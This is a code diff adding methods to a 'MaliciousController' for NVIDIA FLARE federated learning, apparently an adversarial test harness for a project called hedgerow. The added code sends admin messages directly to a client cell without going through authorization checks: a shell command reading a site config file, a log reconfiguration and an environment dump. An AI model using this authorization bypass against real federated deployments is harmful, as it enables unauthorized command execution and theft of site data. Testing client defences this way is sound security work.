@@ -12,6 +12,9 @@ from typing import Any
 import numpy as np
 from nvflare.apis.impl.controller import Controller
 from nvflare.apis.shareable import Shareable
+from nvflare.fuel.f3.cellnet.utils import new_cell_message
+from nvflare.private.admin_defs import Message as AdminMessage
+from nvflare.private.defs import CellChannel, SysCommandTopic, TrainingTopic
 
 from hedgerow.messages import CountLabels, CountRows, Grow, Refusal, Request, from_bytes, to_bytes
 from hedgerow.network.flare import ASK, HELLO
@@ -40,7 +43,31 @@ class MaliciousController(Controller):
         results["at last an honest question"] = self.attack(
             self.request("honest", CountRows(n(0), [Fraction(1, 100)]))
         )
+        results |= {name: self.command(*words) for name, words in self.commands().items()}
         Path(self.out).write_text(json.dumps(results))
+
+    def commands(self) -> dict[str, tuple[str, Any]]:
+        """What a server may tell FLARE's client, without asking the site's authorization.json."""
+        return {
+            "read a file": (SysCommandTopic.SHELL, "cat local/hedgerow.toml"),
+            "configure logs": (TrainingTopic.CONFIGURE_JOB_LOG, "{}"),
+            "environment": (SysCommandTopic.REPORT_ENV, ""),
+        }
+
+    def command(self, topic: str, body: Any) -> str:
+        message = AdminMessage(topic=topic, body=body)
+        reply = (
+            self.fl_ctx.get_engine()
+            .get_cell()
+            .send_request(
+                channel=CellChannel.CLIENT_MAIN,
+                topic=topic,
+                target=self.holder,
+                request=new_cell_message({}, message),
+                timeout=10.0,
+            )
+        )
+        return str(getattr(reply.payload, "body", reply.payload))
 
     def attacks(self) -> dict[str, bytes]:
         one = Fraction(1, 1000)
